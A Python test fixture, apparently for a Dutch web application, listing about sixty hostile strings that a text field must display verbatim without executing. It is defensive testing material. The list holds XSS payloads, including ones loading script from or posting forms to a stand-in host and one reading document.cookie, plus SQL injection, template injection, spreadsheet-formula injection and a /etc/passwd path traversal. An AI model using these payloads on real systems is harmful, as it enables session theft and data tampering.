"""Hostile strings: what a curious student or a pasted e-mail can put in a text field.

Every string here must come back exactly as typed (or be refused with a message, for control
characters), and must never execute or change the page when shown.
"""

LONG = "Lang " * 700  # 3,500 characters: fits a description, not a title

HOSTILE: list[str] = [
    "<script>alert('x')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="document.body.innerHTML=\'weg\'">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert`1`>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<a href="javascript:alert(1)">klik hier</a>',
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">stijl</div>',
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<form action=//evil.example><input name=x></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="//evil.example/">',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</td></tr></table><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!-- commentaar --> na het commentaar",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "{{constructor.constructor('alert(1)')()}}",
    "$$x^2$$ en $\\alpha$ (LaTeX in Markdown)",
    "**vet** _schuin_ [link](javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt; (al ge-escaped)",
    "&amp; &quot; &#39; &#x3C;",
    "Robert'); DROP TABLE knelpunt;--",
    "1' OR '1'='1",
    "' UNION SELECT id FROM status_event --",
    '=HYPERLINK("http://evil.example","klik")',
    "+31 (formule?)",
    "-2+3",
    "@SUM(1+1)",
    "Tekst met\nmeerdere\nregels",
    "Tab\tgescheiden\ttekst",
    "\u202eRTL-override: dit staat achterstevoren",
    "\u200bZero\u200bwidth\u200bspaces",
    "Emoji 🏠👨‍👩‍👧‍👦🔥 en vlaggen 🇳🇱",
    "Arabisch مرحبا en Hebreeuws שלום",
    "Chinees 你好 en Grieks Ελληνικά",
    "Combinerende tekens: é (e + ́) en Zalgo t̸̢e̵k̷s̶t̴",
    "Backslashes \\ \\\\ en quotes \" ' `",
    "%s %d %(naam)s {0} {naam}",
    "../../etc/passwd",
    "C:\\Windows\\system32",
    LONG,
]

# refused with a clear message (PostgreSQL cannot store NUL; invisible control characters are refused)
CONTROL = ["NUL\x00teken", "bel\x07teken", "escape\x1b[31mrood"]

assert len(HOSTILE) >= 50
